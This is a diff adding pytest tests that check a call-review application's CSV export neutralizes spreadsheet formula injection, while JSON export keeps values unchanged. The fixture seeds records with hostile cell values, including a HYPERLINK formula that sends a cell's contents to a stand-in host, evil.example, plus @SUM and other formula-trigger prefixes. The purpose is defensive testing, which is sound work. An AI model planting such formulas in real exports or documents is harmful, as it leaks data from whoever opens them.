@@ -15,11 +15,13 @@ from sqlalchemy.orm import Session, sessionmaker
 from db import review
 from db.agents import add_agent
 from db.audit import head, verify_chain
+from db.engine import unit_of_work
 from db.export import FIELDS, export_rows, write_export
-from db.models import Agent, AuditEvent
+from db.models import AccountUser, Agent, AuditEvent, Call, Tenant
 from tests.helpers.review_data import PASSPHRASE, Made, many_calls
 from tui.cli import main
-from verification.kinds import Outcome, Role
+from verification.hashing import hash_secret
+from verification.kinds import CallState, Outcome, Role
 
 NOW = datetime(2026, 11, 26, 14, 0, tzinfo=UTC)
 RECENT = review.RequestFilter(started_from=NOW - timedelta(days=15), outcome=Outcome.CANCELED)
@@ -96,7 +98,8 @@ def test_unmasked_needs_a_supervisor(factory: sessionmaker[Session]) -> None:
     records = list(csv.DictReader(io.StringIO(out.getvalue())))
     with_tenant = [r for r in records if r["tenant_ref"]]
     assert with_tenant
-    assert {r["phone"] for r in with_tenant} <= _tenant_phones(tenants)
+    # E.164 starts with "+", a formula character: the CSV cell carries a leading quote.
+    assert {r["phone"] for r in with_tenant} <= {f"'{p}" for p in _tenant_phones(tenants)}
     assert all(r["contact"] == "Jo Park" for r in with_tenant)
 
 
@@ -187,3 +190,78 @@ def test_cli_unmasked_checks_the_supervisor_passphrase(
     assert "(UNMASKED)" in capsys.readouterr().out
     assert "Jo Park" in target.read_text(encoding="utf-8")
     assert main(["--db", db_url, "export", "--unmasked"]) == 2
+
+
+# --- hostile values in CSV (issue 11, item 12) -------------------------------------
+
+FORMULA_ORG = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
+
+
+def _hostile_call(factory: sessionmaker[Session]) -> int:
+    """A closed call whose record starts cells with every formula trigger; the supervisor's id."""
+    hashed = hash_secret(PASSPHRASE)
+    with unit_of_work(factory) as session:
+        sue = Agent(
+            username="sue", display_name="Sue", role=Role.SUPERVISOR, passphrase_hash=hashed
+        )
+        agent = Agent(username="-ana", display_name="A", role=Role.AGENT, passphrase_hash=hashed)
+        tenant = Tenant(
+            ref="\tref",
+            organization=FORMULA_ORG,
+            contact_first_name="@SUM(A1)",
+            contact_last_name="\rPark",
+            phone_e164="+14255550100",
+            address_line1="1 Main St",
+            city="Springfield",
+            country="US",
+        )
+        session.add_all([sue, agent, tenant])
+        session.flush()
+        user = AccountUser(
+            user_id="+1-cmd@evil.example", display_name="x", tenant_id=tenant.id, is_admin=True
+        )
+        session.add(user)
+        session.flush()
+        session.add(
+            Call(
+                agent_id=agent.id,
+                started_at=NOW - timedelta(hours=1),
+                ended_at=NOW,
+                tenant_id=tenant.id,
+                caller_user_id=user.id,
+                state=CallState.CLOSED,
+                outcome=Outcome.CANCELED,
+            )
+        )
+        return sue.id
+
+
+@pytest.mark.parametrize("masked", [True, False])
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralized(
+    factory: sessionmaker[Session], masked: bool
+) -> None:
+    supervisor = _hostile_call(factory)
+    out = io.StringIO()
+    unmasked_for = None if masked else supervisor
+
+    write_export(
+        factory, out, "csv", review.RequestFilter(), actor="sue", now=NOW, unmasked_for=unmasked_for
+    )
+
+    [record] = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert record["organization"] == "'" + FORMULA_ORG
+    assert record["agent"] == "'-ana"
+    assert record["tenant_ref"] == "'\tref"
+    assert record["caller_user_id"].startswith("'+")
+    assert record["contact"].startswith("'@")
+    assert record["phone"].startswith("'+") if not masked else record["phone"].startswith("•")
+    for value in record.values():
+        assert not value or value[0] not in "=+-@\t\r", record
+
+
+def test_json_export_keeps_values_as_they_are(factory: sessionmaker[Session]) -> None:
+    _hostile_call(factory)
+    out = io.StringIO()
+    write_export(factory, out, "json", review.RequestFilter(), actor="sue", now=NOW)
+    [record] = json.loads(out.getvalue())
+    assert record["organization"] == FORMULA_ORG
